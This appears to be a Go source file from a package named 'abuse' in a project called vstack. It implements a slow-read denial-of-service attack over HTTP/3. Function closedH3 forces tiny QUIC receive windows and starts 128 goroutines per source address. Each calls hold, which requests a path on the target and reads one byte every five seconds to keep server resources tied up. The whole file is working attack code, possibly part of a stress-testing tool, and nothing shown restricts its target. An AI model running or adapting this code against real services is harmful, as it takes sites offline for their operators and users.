package abuse

import (
	"context"
	"crypto/tls"
	"net/http"
	"net/netip"
	"sync"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
	"github.com/vstack/vstack/internal/sleep"
)

// closedH3 asks for chunks and takes nothing but what quic-go's smallest windows take.
func closedH3(ctx context.Context, c *crew) error {
	small := &quic.Config{InitialStreamReceiveWindow: 1 << 10, MaxStreamReceiveWindow: 1 << 10, InitialConnectionReceiveWindow: 64 << 10,
		MaxConnectionReceiveWindow: 64 << 10, KeepAlivePeriod: time.Second}
	return c.keep(ctx, 8*c.Strength, func(ctx context.Context, from netip.Addr) error {
		tr := &http3.Transport{TLSClientConfig: c.tls, QUICConfig: small,
			Dial: func(ctx context.Context, _ string, conf *tls.Config, q *quic.Config) (*quic.Conn, error) {
				return c.dialQUIC(ctx, from, conf, q)
			}}
		defer tr.Close()
		ctx, cancel := context.WithCancel(ctx)
		defer cancel()
		var wg sync.WaitGroup
		for range 128 {
			wg.Go(func() {
				for ctx.Err() == nil {
					c.hold(ctx, tr)
					sleep.For(ctx, again)
				}
			})
		}
		wg.Wait()
		return nil
	})
}

// hold asks for something and reads one byte of it, again and again later, if any comes.
func (c *crew) hold(ctx context.Context, tr http.RoundTripper) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+c.Target+c.path(), nil)
	if err != nil {
		return
	}
	c.did.requests.Add(1)
	resp, err := tr.RoundTrip(req)
	if err != nil {
		c.did.refused.Add(1)
		return
	}
	defer resp.Body.Close()
	var one [1]byte
	for err == nil { // it ends when the server gives up
		sleep.For(ctx, 5*time.Second)
		_, err = resp.Body.Read(one[:])
	}
}
